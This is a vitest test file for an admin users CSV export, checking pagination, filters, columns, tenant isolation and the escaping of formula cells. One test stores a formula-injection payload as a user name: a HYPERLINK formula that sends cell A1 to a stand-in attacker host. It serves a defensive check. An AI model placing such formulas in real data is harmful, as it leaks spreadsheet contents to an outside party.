// The users CSV download: addresses, not ids; the list's filters; every page of a big tenant; and
// cells a spreadsheet would run as formulas made harmless.
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/platform/csv.ts';
import { STRONG, unique, useTestApp } from '../helpers/app.ts';

const t = useTestApp();

describe('GET /api/v1/admin/users/export and /admin/v1/tenants/{slug}/users/export', () => {
  it('streams every user past the keyset page of 1,000, in email order, with the columns the contract names', async () => {
    const { slug } = await t.tenant();
    const csv = ['email,name,role', ...Array.from({ length: 1203 }, (_, i) => `u${String(i).padStart(4, '0')}@example.com,User ${i},${i % 3 === 0 ? 'supervisor' : 'member'}`)].join('\n');
    expect((await t.op('POST', `/admin/v1/tenants/${slug}/users/import`, { csv, allOrNothing: true })).body.created).toBe(1203);
    const res = await t.op('GET', `/admin/v1/tenants/${slug}/users/export`);
    expect(res.status, res.raw.slice(0, 200)).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="users-${slug}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    expect(res.raw.split('\n')[0]).toBe('email,name,role,status,mfa,signInMethods,lastLoginAt,createdAt');
    const rows = parseCsv(res.raw);
    expect(rows).toHaveLength(1203);
    expect(rows.map((r) => r.email)).toEqual(Array.from({ length: 1203 }, (_, i) => `u${String(i).padStart(4, '0')}@example.com`));
    expect(rows[3]).toMatchObject({ name: 'User 3', role: 'supervisor', status: 'active', mfa: 'off', signinmethods: '', lastloginat: '' });
    expect(res.raw).not.toMatch(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-/); // no ids
  }, 60_000);

  it('honours the list\'s filters (q, status, role) and shows how each can sign in', async () => {
    const { slug } = await t.tenant();
    const ann = await t.user(slug, `${unique('ann')}@example.com`, { role: 'admin', name: 'Ann' });
    const bob = await t.user(slug, `${unique('bob')}@example.com`, { password: null, name: 'Bob' });
    const cy = await t.user(slug, `${unique('cy')}@example.com`, { name: 'Cy' });
    await t.op('PATCH', `/admin/v1/tenants/${slug}/users/${cy.id}`, { disabled: true });
    const base = `/admin/v1/tenants/${slug}/users/export`;
    const emails = async (query: string) => parseCsv((await t.op('GET', `${base}?${query}`)).raw).map((r) => r.email);
    expect(await emails('role=admin')).toEqual([ann.email]);
    expect(await emails('status=disabled')).toEqual([cy.email]);
    expect(await emails(`q=${encodeURIComponent('bob')}`)).toEqual([bob.email]);
    const all = parseCsv((await t.op('GET', base)).raw);
    expect(all.find((r) => r.email === ann.email)).toMatchObject({ role: 'admin', signinmethods: 'password' });
    expect(all.find((r) => r.email === bob.email)).toMatchObject({ signinmethods: '' });
    expect(await emails('method=none')).toEqual([bob.email]);
    expect((await t.op('GET', `${base}?status=gone`)).status).toBe(400);
  });

  it('a name that a spreadsheet would run as a formula starts with an apostrophe', async () => {
    const { slug } = await t.tenant();
    const evil = await t.user(slug, `${unique('evil')}@example.com`, { name: '=HYPERLINK("https://evil.example/?"&A1,"click")' });
    const padded = await t.user(slug, `${unique('pad')}@example.com`, { name: ' @SUM(1+1)' });
    const rows = parseCsv((await t.op('GET', `/admin/v1/tenants/${slug}/users/export`)).raw);
    expect(rows.find((r) => r.email === evil.email)!.name).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"click")');
    // parseCsv trims the cell; the apostrophe still leads it.
    expect(rows.find((r) => r.email === padded.email)!.name).toBe('\' @SUM(1+1)');
  });

  it('tenant admins download their own tenant only; supervisors cannot', async () => {
    const { slug } = await t.tenant();
    const other = await t.tenant();
    const admin = await t.user(slug, `${unique('adm')}@example.com`, { role: 'admin' });
    const sup = await t.user(slug, `${unique('sup')}@example.com`, { role: 'supervisor' });
    const stranger = await t.user(other.slug, `${unique('str')}@example.com`);
    const s = await t.login(admin.email, STRONG, { tenant: slug });
    const res = await t.api('GET', '/api/v1/admin/users/export', undefined, { cookie: s.cookie });
    expect(res.status).toBe(200);
    const emails = parseCsv(res.raw).map((r) => r.email);
    expect(emails).toEqual([admin.email, sup.email].sort());
    expect(emails).not.toContain(stranger.email);
    const ss = await t.login(sup.email, STRONG, { tenant: slug });
    expect((await t.api('GET', '/api/v1/admin/users/export', undefined, { cookie: ss.cookie })).status).toBe(403);
  });
});
